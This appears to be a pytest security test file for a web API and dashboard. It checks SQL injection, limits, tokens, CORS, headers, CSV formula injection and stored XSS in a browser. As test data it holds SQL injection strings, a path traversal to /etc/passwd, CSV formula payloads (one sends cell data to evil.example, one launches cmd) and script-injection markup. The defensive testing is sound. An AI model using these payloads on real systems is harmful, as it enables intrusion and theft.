"""API security (issue #8, part 3): tokens, limits, SQL injection, XSS, CORS, headers, and a
read-only PostgreSQL role.

SQL injection attempts go through every query and path parameter of every endpoint, on SQLite
and on the PostgreSQL server conftest starts; the XSS attempts are stored through the API and
the database, then shown by the dashboard in Debian's chromium (as tests/test_dashboard.py).
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import socket
import threading
import time
import warnings
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import uvicorn
from sqlalchemy import create_engine, text, update

import rasad.api
from rasad.api import MAX_BODY, MAX_FILTER_VALUES, MAX_PAGE, MAX_TERMS, create_app
from rasad.api.guard import content_security_policy
from rasad.ingest import read_documents
from rasad.pipeline import Pipeline
from rasad.store import Store
from rasad.store.schema import events
from tests.conftest import new_postgres_database

with warnings.catch_warnings():
    # Starlette asks for httpx2 in its TestClient; httpx is what is installed and works.
    warnings.simplefilter("ignore")
    from fastapi.testclient import TestClient

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "tests" / "fixtures" / "articles.jsonl"
WRITE, READ = "write-token-for-security-tests", "read-token-for-security-tests"
AUTH = {"Authorization": f"Bearer {WRITE}"}
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--no-first-run",
]


def _sample_records() -> list[dict[str, Any]]:
    return [json.loads(line) for line in SAMPLES.read_text(encoding="utf-8").splitlines()]


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def seeded(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, pipeline: Pipeline
) -> Iterator[Store]:
    """The sample reports' events, on SQLite then on PostgreSQL."""
    if request.param == "sqlite":
        url = str(tmp_path_factory.mktemp("security") / "rasad.db")
    else:
        url = new_postgres_database(request.getfixturevalue("postgres_server"))
    store = Store(url)
    outcomes = list(store.ingest(read_documents([str(SAMPLES)]), pipeline))
    assert all(outcome.status == "new" for outcome in outcomes)
    yield store
    store.close()


@pytest.fixture(scope="module")
def client(seeded: Store) -> Iterator[TestClient]:
    app = create_app(seeded, write_token=WRITE, read_token="")
    with TestClient(app, raise_server_exceptions=False) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def counts(seeded: Store) -> dict[str, int]:
    """What the store holds before any attack: it must hold the same after each."""
    return seeded.counts()


# --- SQL injection ------------------------------------------------------------------------

PAYLOADS = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "1; DROP TABLE events",
    "1); DROP TABLE events; --",
    "x'; DELETE FROM events WHERE 'a'='a",
    "%' UNION SELECT id, text FROM documents --",
    "' UNION SELECT NULL, current_user --",
    "Homs' OR 'x'='x",
    "الميادين' OR '1'='1' --",
    'داعش"; DROP TABLE documents; --',
    "1 AND (SELECT COUNT(*) FROM events) > 0",
    "*/ OR /*",
    "%",
    "_",
    "Homs\x00' OR 1=1 --",
]
FILTERED = ("/api/events", "/api/events.geojson", "/api/events.csv", "/api/stats", "/api/map")
# Each query parameter, the endpoints that take it, and whether it holds free text (then an
# attempt is a value that matches nothing) or a typed value (then an attempt is a 422).
PARAMETERS: dict[str, tuple[tuple[str, ...], bool]] = {
    "admin1": (FILTERED, True),
    "admin2": (FILTERED, True),
    "event_type": (FILTERED, True),
    "sub_event_type": (FILTERED, True),
    "actor": (FILTERED, True),
    "q": (FILTERED, True),
    "since": (FILTERED, False),
    "until": (FILTERED, False),
    "min_fatalities": (FILTERED, False),
    "bbox": (FILTERED, False),
    "historical": (FILTERED, False),
    "sort": (("/api/events", "/api/events.geojson", "/api/events.csv"), False),
    "limit": (("/api/events",), False),
    "offset": (("/api/events",), False),
    "by": (("/api/stats",), False),
    "zoom": (("/api/map",), False),
}


def _matched(path: str, response: Any) -> int:
    """How many events an answer of ``path`` holds."""
    if path == "/api/events":
        body = response.json()
        assert body["total"] >= len(body["events"])
        return body["total"]
    if path == "/api/events.geojson":
        return len(json.loads(response.text)["features"])
    if path == "/api/events.csv":
        return len(list(csv.DictReader(io.StringIO(response.text))))
    if path == "/api/stats":
        return response.json()["events"]
    return response.json()["located"]


def _intact(seeded: Store, counts: dict[str, int]) -> None:
    assert seeded.counts() == counts
    with seeded.engine.connect() as conn:
        # Every table is still there and readable.
        for table in ("documents", "sources", "events", "actors", "places", "event_history"):
            conn.execute(text(f"SELECT COUNT(*) FROM {table}")).scalar_one()


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("name", list(PARAMETERS))
def test_sql_injection_through_every_query_parameter(
    client: TestClient, seeded: Store, counts: dict[str, int], name: str, payload: str
) -> None:
    paths, free_text = PARAMETERS[name]
    for path in paths:
        response = client.get(path, params={name: payload})
        assert response.status_code < 500, (path, response.text)
        if "\x00" in payload or not free_text:
            assert response.status_code == 422, (path, response.text)
            assert response.json()["detail"]
        else:
            assert response.status_code == 200, (path, response.text)
            # The attempt is a value like any other, and no event has it.
            assert _matched(path, response) == 0, path
    _intact(seeded, counts)


@pytest.mark.parametrize("payload", [*PAYLOADS, "../../etc/passwd", "a/b'--"])
def test_sql_injection_through_the_path(
    client: TestClient, seeded: Store, counts: dict[str, int], payload: str
) -> None:
    for path in ("/api/events/", "/api/documents/"):
        response = client.get(path + quote(payload, safe=""))
        expected = 422 if "\x00" in payload else 404
        assert response.status_code == expected, (path, response.text)
        assert response.headers["content-type"] == "application/json"
    _intact(seeded, counts)


def test_the_filters_really_filter_and_an_attempt_adds_nothing(client: TestClient) -> None:
    """Controls for the tests above: a real value finds events, the same value with an
    injection after it finds none, and several values are an OR of exact matches only."""
    homs = client.get("/api/events", params={"admin1": "Homs"}).json()["total"]
    assert homs == 3
    for attempt in ("Homs' OR '1'='1", "Homs' --", 'Homs" OR ""="'):
        assert client.get("/api/events", params={"admin1": attempt}).json()["total"] == 0
    both = client.get("/api/events", params={"admin1": ["Homs", "x' OR 1=1 --"]}).json()
    assert both["total"] == homs
    assert client.get("/api/events", params={"actor": "islamic"}).json()["total"] > 0
    assert client.get("/api/events", params={"actor": "islamic' OR 1=1 --"}).json()["total"] == 0
    assert client.get("/api/events", params={"q": "الميادين"}).json()["total"] > 0
    assert client.get("/api/events", params={"q": "الميادين' OR '1'='1"}).json()["total"] == 0


# --- limits -------------------------------------------------------------------------------


def test_page_size_is_limited(client: TestClient) -> None:
    assert client.get("/api/events", params={"limit": MAX_PAGE}).status_code == 200
    too_big = client.get("/api/events", params={"limit": MAX_PAGE + 1})
    assert too_big.status_code == 422
    assert "less than or equal to 1000" in too_big.text


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"admin1": [f"g{i}" for i in range(MAX_FILTER_VALUES + 1)]}, "at most 50 values"),
        ({"actor": "x" * 201}, "at most 200 characters"),
        ({"q": " ".join(["word"] * (MAX_TERMS + 1))}, "at most 16 words"),
        ({"q": "كلمة" * 200}, "at most 400 characters"),
        ({"min_fatalities": 10**22}, "less than or equal"),
        ({"offset": 10**22}, "less than or equal"),
        ({"bbox": "nan,0,1,1"}, "finite"),
        ({"bbox": "0,0,inf,1"}, "finite"),
    ],
)
def test_oversized_filters_are_a_clear_422(
    client: TestClient, params: dict[str, Any], message: str
) -> None:
    for path in ("/api/events", "/api/stats") if "offset" not in params else ("/api/events",):
        response = client.get(path, params=params)
        assert response.status_code == 422, response.text
        assert message in response.text


def test_exports_are_limited(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rasad.api, "MAX_EXPORT", 5)
    for path in ("/api/events.csv", "/api/events.geojson"):
        refused = client.get(path)
        assert refused.status_code == 422
        assert "rasad export" in refused.json()["detail"]
        assert client.get(path, params={"admin1": "Homs"}).status_code == 200  # 5 events


def test_the_api_reads_through_connections_that_cannot_write(seeded: Store) -> None:
    reader = rasad.api._reader(seeded)
    assert reader is not seeded.engine
    with reader.connect() as conn:
        assert conn.execute(text("SELECT COUNT(*) FROM events")).scalar_one() > 0
        with pytest.raises(Exception, match=r"readonly|read-only"):
            conn.execute(text("DELETE FROM events"))
    reader.dispose()
    assert seeded.counts()["events"] > 0


def test_a_database_error_is_a_clear_503(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sqlalchemy.exc import OperationalError

    def locked(*_args: Any, **_kwargs: Any) -> Any:
        raise OperationalError("SELECT ...", {}, Exception("database is locked"))

    monkeypatch.setattr(rasad.api.queries, "list_events", locked)
    response = client.get("/api/events")
    assert response.status_code == 503
    assert response.headers["retry-after"]
    assert "try again" in response.json()["detail"]
    assert "SELECT" not in response.text  # no SQL, no traceback


def test_a_post_while_another_writer_holds_the_database_is_a_503_then_safe_to_repeat(
    tmp_path: Path,
) -> None:
    import sqlite3

    path = tmp_path / "rasad.db"
    store = Store(f"sqlite:///{path}?timeout=1")
    records = _sample_records()[:2]
    with TestClient(create_app(store, write_token=WRITE)) as client:
        holder = sqlite3.connect(path, isolation_level=None)
        holder.execute("BEGIN EXCLUSIVE")  # another process's long write
        try:
            refused = client.post("/api/documents", json=records, headers=AUTH)
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        assert refused.status_code == 503
        assert refused.headers["retry-after"]
        assert "posting them again is safe" in refused.json()["detail"]
        again = client.post("/api/documents", json=records, headers=AUTH).json()
        assert again["stored"] == 2 and again["failed"] == 0


def test_a_body_over_the_limit_is_a_clear_413(tmp_path: Path) -> None:
    store = Store(str(tmp_path / "rasad.db"))
    record = _sample_records()[0]
    with TestClient(create_app(store, write_token=WRITE, max_body=20_000)) as client:
        big = {**record, "text": record["text"] + " كلمة" * 5000}
        response = client.post("/api/documents", json=big, headers=AUTH)
        assert response.status_code == 413
        assert response.headers["content-type"] == "application/json"
        assert "20,000 bytes" in response.json()["detail"]
        # Without Content-Length (chunked), the body is counted as it comes.
        payload = json.dumps(big).encode()
        chunks = (payload[i : i + 4096] for i in range(0, len(payload), 4096))
        chunked = client.post(
            "/api/documents",
            content=chunks,
            headers={**AUTH, "Content-Type": "application/json"},
        )
        assert chunked.status_code == 413
        assert store.counts()["documents"] == 0
        # A body under the limit goes through.
        small = {**record, "text": record["text"][:6000]}
        assert len(json.dumps(small).encode()) < 20_000
        assert client.post("/api/documents", json=small, headers=AUTH).json()["stored"] == 1
    store.close()
    assert MAX_BODY == 16 * 1024 * 1024


def test_a_malformed_body_is_a_422_not_a_500(tmp_path: Path) -> None:
    store = Store(str(tmp_path / "rasad.db"))
    with TestClient(create_app(store, write_token=WRITE), raise_server_exceptions=False) as client:
        for body in (b"{not json", b"\xff\xfe", b"[1, 2", b""):
            response = client.post(
                "/api/documents",
                content=body,
                headers={**AUTH, "Content-Type": "application/json"},
            )
            assert response.status_code == 422, (body, response.text)
        weird = client.post("/api/documents", json=[1, "x", None, {"id": []}], headers=AUTH)
        assert weird.status_code == 200
        assert weird.json()["failed"] == 4
    store.close()


# --- tokens -----------------------------------------------------------------------------------


def test_tokens_are_compared_in_constant_time(
    seeded: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every configured token is compared with hmac.compare_digest, even after a match."""
    compared: list[tuple[bytes, bytes]] = []
    real = rasad.api.hmac.compare_digest

    def spy(a: bytes, b: bytes) -> bool:
        compared.append((a, b))
        return real(a, b)

    monkeypatch.setattr(rasad.api.hmac, "compare_digest", spy)
    with TestClient(create_app(seeded, write_token=WRITE, read_token=READ)) as client:
        near = READ[:-1] + "x"  # same length, one character off
        for token in (near, READ[:5], READ + "x", "", "é" * len(READ)):
            compared.clear()
            # Bytes: a header may hold any octet, not only ASCII.
            header = f"Bearer {token}".encode()
            response = client.get("/api/stats", headers={"Authorization": header})
            assert response.status_code == 401
            # An empty token is refused before any comparison; others meet both tokens.
            assert len(compared) == (0 if not token else 2)
        compared.clear()
        assert client.get("/api/stats", headers={"Authorization": f"Bearer {READ}"}).is_success
        assert sorted(b for _, b in compared) == sorted([READ.encode(), WRITE.encode()])
        # Only "Bearer" is a scheme; the token is never read from the query string.
        assert client.get("/api/stats", headers={"Authorization": f"Basic {READ}"}).is_error
        assert client.get("/api/stats", params={"token": READ}).status_code == 401


def test_the_read_token_does_not_write(seeded: Store) -> None:
    before = seeded.counts()
    with TestClient(create_app(seeded, write_token=WRITE, read_token=READ)) as client:
        response = client.post(
            "/api/documents",
            json=_sample_records()[0],
            headers={"Authorization": f"Bearer {READ}"},
        )
        assert response.status_code == 401
    assert seeded.counts() == before


# --- CORS and headers ---------------------------------------------------------------------------


def test_cors_is_off_by_default(client: TestClient) -> None:
    origin = {"Origin": "https://evil.example"}
    response = client.get("/api/events", headers=origin)
    assert response.status_code == 200
    assert not any(name.lower().startswith("access-control-") for name in response.headers)
    preflight = client.options(
        "/api/documents",
        headers={
            **origin,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "authorization, content-type",
        },
    )
    assert preflight.status_code >= 400
    assert "access-control-allow-origin" not in preflight.headers
    assert "access-control-allow-headers" not in preflight.headers


def test_security_headers(client: TestClient) -> None:
    # The docs page too: it runs the vendored Swagger UI, with no inline script.
    for path in ("/", "/static/app.js", "/api/events", "/api/events/nope", "/docs"):
        response = client.get(path)
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert response.headers["x-frame-options"] == "DENY", path
        assert response.headers["referrer-policy"] == "no-referrer", path
        policy = response.headers["content-security-policy"]
        assert "default-src 'self'" in policy and "script-src 'self'" in policy, path
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, path
        assert "frame-ancestors 'none'" in policy, path
    assert client.get("/api/events").headers["content-type"] == "application/json"


def test_the_csp_lets_the_tile_server_in() -> None:
    policy = content_security_policy("https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png")
    assert "img-src 'self' data: blob: https://*.tile.openstreetmap.org;" in policy
    assert "https://tiles.example:8080;" in content_security_policy(
        "https://tiles.example:8080/{z}/{x}/{y}.png"
    )
    assert "img-src 'self' data: blob:;" in content_security_policy("javascript:alert(1)")


# --- CSV injection ------------------------------------------------------------------------


def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path: Path) -> None:
    store = Store(str(tmp_path / "rasad.db"))
    records = _sample_records()[:2]
    records[0]["outlet"] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    records[1]["outlet"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    with TestClient(create_app(store, write_token=WRITE)) as client:
        assert client.post("/api/documents", json=records, headers=AUTH).json()["stored"] == 2
        with store.engine.begin() as conn:
            first = conn.execute(text("SELECT id FROM events ORDER BY id LIMIT 1")).scalar_one()
            conn.execute(
                update(events).where(events.c.id == first).values(notes="-2+3+cmd|' /C calc'!A0")
            )
        # the event changed may be a background mention, or undated
        every = {"historical": "include", "include_undated": "true"}
        rows = list(csv.reader(io.StringIO(client.get("/api/events.csv", params=every).text)))
    header, body = rows[0], rows[1:]
    assert body
    source, notes = header.index("source"), header.index("notes")
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert {row[source] for row in body} >= {
        "'" + records[0]["outlet"],
        "'" + records[1]["outlet"],
    }
    assert "'-2+3+cmd|' /C calc'!A0" in {row[notes] for row in body}
    # Numbers stay numbers.
    latitude = header.index("latitude")
    assert all(float(row[latitude]) > 30 for row in body if row[latitude])
    store.close()


# --- a read-only PostgreSQL role ------------------------------------------------------------


def _documented_reader_sql(database: str) -> list[str]:
    """The statements docs/reliability.md gives to create the read-only role."""
    doc = (ROOT / "docs" / "reliability.md").read_text(encoding="utf-8")
    block = re.search(r"```sql\n(.*?CREATE ROLE rasad_reader.*?)```", doc, re.S)
    assert block, "docs/reliability.md has no SQL block creating rasad_reader"
    sql = block.group(1).replace(" rasad TO", f" {database} TO")
    statements = [s.strip() for s in sql.split(";") if s.strip()]
    return [
        "\n".join(line for line in s.splitlines() if not line.lstrip().startswith("--"))
        for s in statements
    ]


def test_a_read_only_postgres_role_serves_reads_and_refuses_writes(
    postgres_server: str, pipeline: Pipeline
) -> None:
    url = new_postgres_database(postgres_server)
    database = url.rsplit("/", 1)[1]
    with Store(url) as owner:  # the ingesting role creates the schema and fills it
        list(owner.ingest(read_documents([str(SAMPLES)]), pipeline))
        before = owner.counts()
        statements = _documented_reader_sql(database)
        with owner.engine.begin() as conn:
            exists = conn.execute(
                text("SELECT 1 FROM pg_roles WHERE rolname = 'rasad_reader'")
            ).first()
            for statement in statements:
                if exists and statement.startswith("CREATE ROLE"):
                    continue  # roles belong to the server: another test made it
                conn.execute(text(statement))
    reader_url = url.replace("://rasad@", "://rasad_reader@")

    # The role cannot write, whatever it tries.
    engine = create_engine(reader_url)
    with engine.connect() as conn:
        for attempt in (
            "DELETE FROM events",
            "INSERT INTO actors (id, name, inter) VALUES ('x', 'x', 1)",
            "DROP TABLE events",
            "CREATE TABLE intruder (id int)",
        ):
            with pytest.raises(Exception, match=r"read-only transaction|permission denied"):
                conn.execute(text(attempt))
            conn.rollback()
    engine.dispose()

    # `rasad serve --db <reader url>` is this app: it reads, and refuses to write, clearly.
    with TestClient(create_app(reader_url, write_token=WRITE, read_token="")) as client:
        every = {"historical": "include"}  # background mentions too: every stored event
        listing = client.get("/api/events", params={"limit": 1000, **every}).json()
        assert listing["total"] == before["events"]
        event_id = listing["events"][0]["id"]
        assert client.get(f"/api/events/{event_id}").json()["event_id"] == event_id
        assert client.get("/api/stats", params=every).json()["events"] == before["events"]
        assert client.get("/api/documents/000_d9af357cd68cf0d4").status_code == 200
        assert client.get("/api/events.csv").status_code == 200
        assert client.get("/api/facets").status_code == 200
        response = client.post("/api/documents", json=_sample_records()[0], headers=AUTH)
        assert response.status_code == 403, response.text
        assert "read-only" in response.json()["detail"]
        # The token is still checked first: a stranger learns nothing about the database.
        assert client.post("/api/documents", json={}, headers={}).status_code == 401
    with Store(url) as owner:
        assert owner.counts() == before

    # Without the read-only default, the missing privileges say why writing is refused.
    engine = create_engine(reader_url)
    with engine.connect() as conn:
        conn.execute(text("SET SESSION default_transaction_read_only = off"))
        conn.commit()
        why = rasad.api._postgres_read_only(conn)
    engine.dispose()
    assert why and "'rasad_reader'" in why and "INSERT on documents" in why


# --- XSS through stored text, in the dashboard ----------------------------------------------

SCRIPT = "<script>top['xss']=1;alert(1)</script>"
IMAGE = "<img src=x onerror=\"top['xss']=2;alert(2)\">"
HOSTILE_TEXT = (
    f"قتل ثلاثة مدنيين بقصف مدفعي {SCRIPT} لقوات النظام على مدينة الميادين {IMAGE} "
    "في ريف دير الزور الشرقي يوم الخميس\nوقال مصدر محلي إن القصف استهدف السوق"
)
HOSTILE_ACTOR = "<img src=x onerror=\"top['xss']=3;alert(3)\">قوات"
HOSTILE_PLACE = "الميادين <svg onload=\"top['xss']=4;alert(4)\">"
HOSTILE_NOTES = "<iframe src=\"javascript:top['xss']=5;alert(5)\"></iframe> notes"
HOSTILE_TITLE = "<script>top['xss']=6;alert(6)</script> عنوان"
HOSTILE_OUTLET = "<b onmouseover=\"top['xss']=7\">وكالة</b>"


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """A server whose store holds one event and document full of HTML and script: its URL
    and the event's id."""
    store = Store(str(tmp_path_factory.mktemp("xss") / "rasad.db"))
    app = create_app(store, write_token=WRITE, read_token="")
    record = {
        "id": "hostile<script>alert(8)</script>",
        "published": "2023-12-09",
        "title": HOSTILE_TITLE,
        "outlet": HOSTILE_OUTLET,
        "url": "javascript:top['xss']=9;alert(9)",
        "text": HOSTILE_TEXT,
    }
    with TestClient(app) as client:
        result = client.post("/api/documents", json=[record, _sample_records()[1]], headers=AUTH)
        assert result.json()["stored"] == 2, result.text
    with store.engine.begin() as conn:
        event_id = conn.execute(
            text("SELECT id FROM events WHERE doc_id = :d"), {"d": record["id"]}
        ).scalar_one()
        conn.execute(
            update(events)
            .where(events.c.id == event_id)
            .values(actor1=HOSTILE_ACTOR, location=HOSTILE_PLACE, notes=HOSTILE_NOTES)
        )
    evidence = store.event(event_id).sources[0].evidence
    assert any(SCRIPT in span.text and IMAGE in span.text for span in evidence), (
        "the stored evidence must hold the markup for this test to mean anything"
    )
    with TestClient(app) as client:
        # The ids hold a "/" (of "</script>"): the API finds them all the same.
        assert "/" in event_id
        found = client.get("/api/events/" + quote(event_id, safe=""))
        assert found.json()["event_id"] == event_id
        found = client.get("/api/documents/" + quote(record["id"], safe=""))
        assert found.json()["id"] == record["id"]
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.02)
    yield f"http://127.0.0.1:{port}", event_id
    server.should_exit = True
    thread.join(5)
    store.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    executable = shutil.which("chromium") or "/usr/bin/chromium"
    if not Path(executable).exists():
        pytest.fail("chromium not found: apt-get install -y chromium (.ci/run does)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        yield launched
        launched.close()


@pytest.mark.parametrize("csp", ["enforced", "bypassed"])
def test_stored_markup_is_shown_as_text_and_never_runs(
    browser: Any, hostile_server: tuple[str, str], csp: str
) -> None:
    """With the CSP and without it (so that the rendering itself is what is tested)."""
    url, event_id = hostile_server
    context = browser.new_context(
        viewport={"width": 1400, "height": 900}, bypass_csp=csp == "bypassed"
    )
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    stray: list[str] = []
    page.on("request", lambda request: stray.append(request.url) if "/x" in request.url else None)
    page.goto(url + "/")
    page.wait_for_selector("body[data-ready=true]", timeout=15000)

    row = page.locator(f'#table tbody tr[data-id="{event_id}"]')
    assert row.locator("td").nth(2).inner_text() == HOSTILE_ACTOR
    row.click()
    page.locator("#panel .evidence").first.wait_for()
    panel = page.locator("#panel")
    shown = panel.inner_text()
    for literal in (SCRIPT, IMAGE, HOSTILE_ACTOR, HOSTILE_PLACE, HOSTILE_NOTES, HOSTILE_OUTLET):
        assert literal in shown, literal
    evidence = page.locator("#panel .evidence[dir=rtl]").first
    assert SCRIPT in evidence.inner_text() and evidence.locator("mark").count() >= 1
    # A javascript: URL is not made a link.
    assert page.locator("#panel a[href^='javascript']").count() == 0

    page.locator("#panel a.back").first.click()  # the cleaned document
    page.wait_for_function("() => document.querySelector('#panel h3') !== null")
    page.locator("#panel .doc-text").wait_for()
    assert page.locator("#panel h3").inner_text() == HOSTILE_TITLE
    assert SCRIPT in page.locator("#panel .doc-text").inner_text()

    page.click("#lang")  # Arabic: the table shows the Arabic place name
    page.wait_for_function("() => document.documentElement.dir === 'rtl'")
    page.wait_for_function(
        f"() => [...document.querySelectorAll('#table td')].some(td => td.textContent === "
        f"{json.dumps(HOSTILE_PLACE)})"
    )
    page.wait_for_timeout(300)  # time for anything injected to run, were it to

    injected = page.evaluate(
        "() => document.querySelectorAll('#table script, #table img, #table svg, "
        "#panel script, #panel img, #panel iframe, #panel svg, #panel b').length"
    )
    assert injected == 0
    assert page.evaluate("() => window.xss") is None
    assert dialogs == [] and stray == []
    context.close()
